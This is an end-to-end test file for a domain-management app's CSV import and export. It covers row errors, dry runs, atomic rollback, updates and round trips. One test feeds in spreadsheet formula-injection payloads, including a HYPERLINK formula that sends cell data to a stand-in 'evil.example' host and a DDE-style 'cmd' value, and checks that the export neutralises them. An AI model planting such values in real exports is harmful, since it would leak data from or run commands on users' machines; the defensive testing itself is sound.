// CSV import and export of domains end to end: row reports, dry run, atomic, updates, round trip.
import { DataSource } from 'typeorm';
import { startTestApp, type TestApp } from './support/test-app';

const HEADER = 'name,client,registrar,registeredAt,expiresAt,statuses';

describe('domains CSV import and export', () => {
  let t: TestApp;
  let db: DataSource;
  let linda: string;
  let buch: string;
  let lindaToken: string;

  const admin = () => ({ Authorization: t.adminAuth });

  function importCsv(csv: string, query = '') {
    return t.http().post(`/api/domains/import${query}`).set(admin()).set('Content-Type', 'text/csv').send(csv);
  }

  async function addClient(name: string): Promise<string> {
    const rows: { id: string }[] = await db.query('INSERT INTO client (name) VALUES ($1) RETURNING id', [name]);
    return rows[0].id;
  }

  async function domainNames(): Promise<string[]> {
    const rows: { name: string }[] = await db.query('SELECT name FROM domain ORDER BY name');
    return rows.map((r) => r.name);
  }

  async function count(sql: string, params: unknown[] = []): Promise<number> {
    const [{ n }] = await db.query(`SELECT count(*)::int AS n FROM ${sql}`, params);
    return n;
  }

  beforeAll(async () => {
    t = await startTestApp();
    db = t.app.get(DataSource);
    linda = await addClient('Linda Pence Art');
    buch = await addClient('Bücherstube Müller');
    await addClient('Twin Studio');
    await addClient('twin studio');
    const res = await t.http().post('/api/tokens').set(admin()).send({ role: 'client', clientId: linda }).expect(201);
    lindaToken = res.body.token;
  });
  afterAll(() => t.close());

  beforeEach(async () => {
    await db.query('DELETE FROM domain');
    await db.query('DELETE FROM registrar');
    await db.query('DELETE FROM audit_event');
  });

  describe('mixed rows', () => {
    const csv = () =>
      [
        HEADER,
        `lindapence.com,${linda},Gandi,2019-03-01,2027-03-01,clientTransferProhibited clientDeleteProhibited`,
        'www.pence-gallery.com,Linda Pence Art,,,,',
        'bücher.de,BÜCHERSTUBE MÜLLER,inwx,,2026-11-30T00:00:00Z,OK;clientHold|clientRenewProhibited',
        'orphan-domain.com,Nobody Ltd,,,,',
        'bad-date.com,Linda Pence Art,,2026-02-30,,',
        'twin-art.com,TWIN STUDIO,,,,',
        'frozen-art.com,Linda Pence Art,,,,frozen',
        '"quoted-art.com","Linda Pence Art","Gandi, Inc.",,,',
        'not a domain,Linda Pence Art,,,,',
      ].join('\r\n');

    it('creates the good rows and reports each bad one by its row number', async () => {
      const res = await importCsv(csv()).expect(200);
      expect(res.body).toMatchObject({ dryRun: false, atomic: false, rolledBack: false, created: 3, updated: 0, errors: 6 });
      expect(res.body.rows).toEqual([
        { row: 1, name: 'lindapence.com', result: 'created' },
        { row: 2, name: 'www.pence-gallery.com', result: 'error', error: expect.stringMatching(/^name: .*registrable name 'pence-gallery.com'/) },
        { row: 3, name: 'xn--bcher-kva.de', result: 'created' },
        { row: 4, name: 'orphan-domain.com', result: 'error', error: expect.stringMatching(/^client: no client has the id or name 'Nobody Ltd'/) },
        { row: 5, name: 'bad-date.com', result: 'error', error: expect.stringMatching(/^registeredAt: '2026-02-30' is not a date/) },
        { row: 6, name: 'twin-art.com', result: 'error', error: expect.stringMatching(/^client: 2 clients are named 'TWIN STUDIO'/) },
        { row: 7, name: 'frozen-art.com', result: 'error', error: expect.stringMatching(/^statuses\.0: 'frozen' is not an EPP status/) },
        { row: 8, name: 'quoted-art.com', result: 'created' },
        { row: 9, name: 'not a domain', result: 'error', error: expect.stringMatching(/^name: /) },
      ]);
      expect(await domainNames()).toEqual(['lindapence.com', 'quoted-art.com', 'xn--bcher-kva.de']);

      const lindapence = await t.http().get('/api/domains/lindapence.com').set(admin()).expect(200);
      expect(lindapence.body).toMatchObject({
        clientId: linda,
        registrar: 'Gandi',
        registeredAt: '2019-03-01T00:00:00.000Z',
        expiresAt: '2027-03-01T00:00:00.000Z',
        statuses: ['clientTransferProhibited', 'clientDeleteProhibited'],
      });
      const buecher = await t.http().get('/api/domains/b%C3%BCcher.de').set(admin()).expect(200);
      expect(buecher.body).toMatchObject({
        unicodeName: 'bücher.de',
        clientId: buch,
        registrar: 'inwx',
        expiresAt: '2026-11-30T00:00:00.000Z',
        statuses: ['ok', 'clientHold', 'clientRenewProhibited'],
      });
      const quoted = await t.http().get('/api/domains/quoted-art.com').set(admin()).expect(200);
      expect(quoted.body.registrar).toBe('Gandi, Inc.');
    });

    it('audits each created domain (action import) and each new registrar', async () => {
      await importCsv(csv()).expect(200);
      const res = await t.http().get('/api/audit?entityType=domain&action=import').set(admin()).expect(200);
      expect(res.body.total).toBe(3);
      expect(res.body.items.map((e: { after: { name: string } }) => e.after.name).sort()).toEqual(['lindapence.com', 'quoted-art.com', 'xn--bcher-kva.de']);
      expect(res.body.items.every((e: { before: unknown }) => e.before === null)).toBe(true);
      expect(await count(`audit_event WHERE "entityType" = 'registrar' AND action = 'create'`)).toBe(3);
    });

    it('writes nothing in a dry run, but reports the same rows', async () => {
      const real = await importCsv(csv(), '?dryRun=true').expect(200);
      expect(real.body).toMatchObject({ dryRun: true, atomic: false, rolledBack: false, created: 3, updated: 0, errors: 6 });
      expect(real.body.rows.map((r: { result: string }) => r.result)).toEqual([
        'created',
        'error',
        'created',
        'error',
        'error',
        'error',
        'error',
        'created',
        'error',
      ]);
      expect(real.body.message).toMatch(/nothing was written/i);
      expect(await domainNames()).toEqual([]);
      expect(await count('registrar')).toBe(0);
      expect(await count('audit_event')).toBe(0);
    });

    it('rolls everything back when atomic and one row is bad, and says so', async () => {
      const res = await importCsv(csv(), '?atomic=true').expect(200);
      expect(res.body).toMatchObject({ dryRun: false, atomic: true, rolledBack: true, created: 0, updated: 0, errors: 6 });
      expect(res.body.message).toMatch(/nothing was written/i);
      expect(res.body.rows[4]).toMatchObject({ row: 5, result: 'error' });
      expect(await domainNames()).toEqual([]);
      expect(await count('registrar')).toBe(0);
      expect(await count('audit_event')).toBe(0);
    });
  });

  it('writes every row of an atomic import without errors', async () => {
    const res = await importCsv(`${HEADER}\nlindapence.com,Linda Pence Art,,,,\nbücher.de,${buch},,,,\n`, '?atomic=true').expect(200);
    expect(res.body).toMatchObject({ atomic: true, rolledBack: false, created: 2, updated: 0, errors: 0 });
    expect(await domainNames()).toEqual(['lindapence.com', 'xn--bcher-kva.de']);
  });

  it('updates an existing domain from the non-empty cells only, and can move it to another client', async () => {
    await t
      .http()
      .post('/api/domains')
      .set(admin())
      .send({
        name: 'lindapence.com',
        clientId: linda,
        registrar: 'Gandi',
        registeredAt: '2019-03-01',
        expiresAt: '2026-03-01',
        statuses: ['ok'],
        notes: 'keep me',
      })
      .expect(201);
    const before = await t.http().get('/api/domains/lindapence.com').set(admin()).expect(200);

    const res = await importCsv('name,expiresAt,statuses\nLINDAPENCE.COM,2027-03-01,\n').expect(200);
    expect(res.body).toMatchObject({ created: 0, updated: 1, errors: 0, rows: [{ row: 1, name: 'lindapence.com', result: 'updated' }] });
    const after = await t.http().get('/api/domains/lindapence.com').set(admin()).expect(200);
    expect(after.body).toEqual({ ...before.body, expiresAt: '2027-03-01T00:00:00.000Z', updatedAt: expect.any(String) });

    await importCsv(`name,client,registrar\nlindapence.com,${buch},INWX\n`).expect(200);
    const moved = await t.http().get('/api/domains/lindapence.com').set(admin()).expect(200);
    expect(moved.body).toMatchObject({ clientId: buch, registrar: 'INWX', statuses: ['ok'], notes: 'keep me' });

    const audit = await t.http().get(`/api/audit?entityType=domain&entityId=${before.body.id}&action=import`).set(admin()).expect(200);
    expect(audit.body.total).toBe(2);
    expect(audit.body.items[1]).toMatchObject({ before: { expiresAt: '2026-03-01T00:00:00.000Z' }, after: { expiresAt: '2027-03-01T00:00:00.000Z' } });
    expect(audit.body.items[0]).toMatchObject({ before: { clientId: linda, registrar: 'Gandi' }, after: { clientId: buch, registrar: 'INWX' } });
  });

  it('checks an update against the stored dates and needs a client only for new domains', async () => {
    await importCsv(`${HEADER}\nlindapence.com,Linda Pence Art,,2019-03-01,2026-03-01,\n`).expect(200);
    const res = await importCsv('name,client,expiresAt\nlindapence.com,,2018-01-01\nnew-art.com,,\n').expect(200);
    expect(res.body.rows).toEqual([
      { row: 1, name: 'lindapence.com', result: 'error', error: expect.stringMatching(/^expiresAt: must be after registeredAt/) },
      { row: 2, name: 'new-art.com', result: 'error', error: expect.stringMatching(/^client: a new domain needs its client/) },
    ]);
  });

  it('reports a name given twice in one file', async () => {
    const res = await importCsv(`${HEADER}\nbücher.de,${buch},,,,\nxn--bcher-kva.de,${buch},,,,\n`).expect(200);
    expect(res.body.rows[1]).toEqual({ row: 2, name: 'xn--bcher-kva.de', result: 'error', error: 'name: xn--bcher-kva.de is already in row 1' });
    expect(res.body.created).toBe(1);
  });

  it('exports every domain as CSV that imports back as all updated with no change', async () => {
    await importCsv(
      [
        HEADER,
        `lindapence.com,Linda Pence Art,"Gandi, Inc.",2019-03-01,2027-03-01T12:30:00Z,clientTransferProhibited;clientDeleteProhibited`,
        'bücher.de,Bücherstube Müller,,,,',
        `twin-art.com,${(await db.query(`SELECT id FROM client WHERE name = 'Twin Studio'`))[0].id},,,,ok`,
      ].join('\n'),
    ).expect(200);
    const exported = await t.http().get('/api/domains/export.csv').set(admin()).expect(200);
    expect(exported.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(exported.headers['content-disposition']).toBe('attachment; filename="domains.csv"');
    expect(exported.text.split('\n')).toEqual([
      HEADER,
      'lindapence.com,Linda Pence Art,"Gandi, Inc.",2019-03-01T00:00:00.000Z,2027-03-01T12:30:00.000Z,clientTransferProhibited clientDeleteProhibited',
      'twin-art.com,Twin Studio,,,,ok',
      'xn--bcher-kva.de,Bücherstube Müller,,,,',
      '',
    ]);

    const before = (await t.http().get('/api/domains').set(admin()).expect(200)).body;
    const res = await importCsv(exported.text).expect(200);
    expect(res.body).toMatchObject({ created: 0, updated: 3, errors: 0 });
    expect(res.body.rows.every((r: { result: string }) => r.result === 'updated')).toBe(true);
    const after = (await t.http().get('/api/domains').set(admin()).expect(200)).body;
    expect(after).toEqual(before);
    expect(await count('registrar')).toBe(1);
  });

  it('exports no cell a spreadsheet would run as a formula, and that export imports back unchanged', async () => {
    // Client and registrar names as an attacker with a staff login or a registrar's mail could set
    // them. (Tab- and CR-led values are in domain-csv.spec.ts: names are trimmed on the way in.)
    const clients = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '-Minus Art', "'=1+1 Studio", '+1 555 0100 Studio', "'Quote Studio"];
    const registrars = ['@SUM(1+1)*cmd|x', '+Registrar', "'Gandi", '＝Fullwidth'];
    const ids = [];
    for (const name of clients) ids.push(await addClient(name));
    for (const [i, id] of ids.entries()) {
      await t
        .http()
        .post('/api/domains')
        .set(admin())
        .send({ name: `formula-${i}.com`, clientId: id, registrar: registrars[i % registrars.length] })
        .expect(201);
    }
    const exported = await t.http().get('/api/domains/export.csv').set(admin()).expect(200);
    expect(exported.text.split('\n').slice(1, 6)).toEqual([
      `formula-0.com,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",'@SUM(1+1)*cmd|x,,,`,
      "formula-1.com,'-Minus Art,'+Registrar,,,",
      "formula-2.com,''=1+1 Studio,'Gandi,,,",
      "formula-3.com,'+1 555 0100 Studio,'＝Fullwidth,,,",
      "formula-4.com,'Quote Studio,'@SUM(1+1)*cmd|x,,,",
    ]);

    const before = (await t.http().get('/api/domains').set(admin()).expect(200)).body;
    const res = await importCsv(exported.text).expect(200);
    expect(res.body.rows.filter((r: { result: string }) => r.result !== 'updated')).toEqual([]);
    expect((await t.http().get('/api/domains').set(admin()).expect(200)).body).toEqual(before);
    expect(before.items.map((d: { clientId: string }) => d.clientId)).toEqual(ids);
    expect((await db.query('SELECT name FROM registrar ORDER BY name')).map((r: { name: string }) => r.name).sort()).toEqual([...registrars].sort());
    const again = await t.http().get('/api/domains/export.csv').set(admin()).expect(200);
    expect(again.text).toBe(exported.text);
  });

  it('exports a header alone when there are no domains', async () => {
    const res = await t.http().get('/api/domains/export.csv').set(admin()).expect(200);
    expect(res.text).toBe(`${HEADER}\n`);
  });

  describe('refused files (400)', () => {
    it.each([
      ['an empty body', '', /empty/],
      ['no name column', 'client,registrar\nLinda Pence Art,Gandi\n', /no 'name' column/],
      ['an unknown column', 'name,owner\nlindapence.com,Linda\n', /unknown column/],
      ['an unclosed quote', `${HEADER}\n"lindapence.com,Linda Pence Art,,,,\n`, /cannot be read/],
      ['more than 10,000 rows', `name,client\n${'lindapence.com,Linda Pence Art\n'.repeat(10_001)}`, /at most 10000/],
    ])('%s', async (_what, csv, message) => {
      const res = await importCsv(csv).expect(400);
      expect(res.body.errors[0]).toEqual({ field: 'body', message: expect.stringMatching(message) });
      expect(await domainNames()).toEqual([]);
    });

    it('a JSON body', async () => {
      const res = await t.http().post('/api/domains/import').set(admin()).send({ name: 'lindapence.com' }).expect(400);
      expect(res.body.message).toMatch(/text\/csv/);
    });

    it('a bad flag', async () => {
      const res = await importCsv(`${HEADER}\n`, '?dryRun=yes').expect(400);
      expect(res.body.errors[0].field).toBe('dryRun');
    });
  });

  it('imports 10,000 rows', async () => {
    const rows = Array.from({ length: 10_000 }, (_, i) => `bulk-${i}.com,Linda Pence Art,Gandi,,2027-01-01,ok`);
    const res = await importCsv([HEADER, ...rows].join('\n')).expect(200);
    expect(res.body).toMatchObject({ created: 10_000, errors: 0 });
    expect(await count('domain')).toBe(10_000);
  }, 120_000);

  it('is for staff and admin only', async () => {
    const as = { Authorization: `Bearer ${lindaToken}` };
    await t.http().post('/api/domains/import').set(as).set('Content-Type', 'text/csv').send(`${HEADER}\n`).expect(403);
    await t.http().get('/api/domains/export.csv').set(as).expect(403);
    await t.http().post('/api/domains/import').set('Content-Type', 'text/csv').send(`${HEADER}\n`).expect(401);
    await t.http().get('/api/domains/export.csv').expect(401);
  });
});
